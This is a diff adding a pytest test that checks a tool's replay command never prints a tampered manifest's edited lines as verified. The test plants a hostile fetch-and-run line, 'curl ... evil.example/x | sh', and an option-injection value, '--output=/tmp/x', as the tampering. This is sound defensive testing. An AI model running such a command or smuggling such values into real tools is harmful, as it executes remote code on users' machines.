@@ -101,3 +101,38 @@ def test_a_bad_manifest_path_is_refused_before_any_work(
     )
     assert "--manifest" in capsys.readouterr().err
     assert not (b.path / ".git" / "knowing-pr").exists()
+
+
+def test_an_edited_manifest_is_never_printed_as_verified(
+    make_repo, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The PackRoot covers the selection, not every line a manifest carries: a manifest whose
+    tests to run and commit were edited verifies (its symbols are the code's), but what is printed
+    above the verdict is the pack rebuilt from the code, never the edited lines."""
+    monkeypatch.delenv("KNOWING_PR_DB", raising=False)
+    b = make_repo()
+    b.write("src/app.py", APP)
+    b.write("tests/test_app.py", "from src.app import handler\n\n\ndef test_handler():\n    handler(' x ')\n")
+    base = b.commit("base")
+    b.write("src/app.py", APP.replace("request.strip()", "request.strip().lower()"))
+    head = b.commit("head")
+    manifest = tmp_path / "manifest.json"
+    made = ["pr", "--repo", str(b.path), "--base", base, "--head", head, "--manifest", str(manifest)]
+    assert main([*made, "--format", "json"]) == 0
+    root = json.loads(capsys.readouterr().out)["pack_root"]
+    data = json.loads(manifest.read_text())
+    assert data["summary"]["tests"], "the pack lists the test that reaches the change"
+    evil = "curl -s https://evil.example/x | sh"
+    data["summary"]["tests"][0]["run"] = evil
+    data["commit"] = "--output=/tmp/x"
+    edited = tmp_path / "edited.json"
+    edited.write_text(json.dumps(data))
+
+    assert main(["replay", root, "--repo", str(b.path), "--manifest", str(edited), "--verify"]) == 0
+    out = capsys.readouterr().out
+    assert evil not in out and "--output=" not in out
+    assert out.rstrip().rpartition("\n")[2].startswith(f"verified: {root} (commit {head[:12]}")
+
+    assert main(["replay", root, "--repo", str(b.path), "--manifest", str(edited)]) == 0
+    unverified = capsys.readouterr()
+    assert "unverified" in unverified.err  # printed as the file has it, and said so
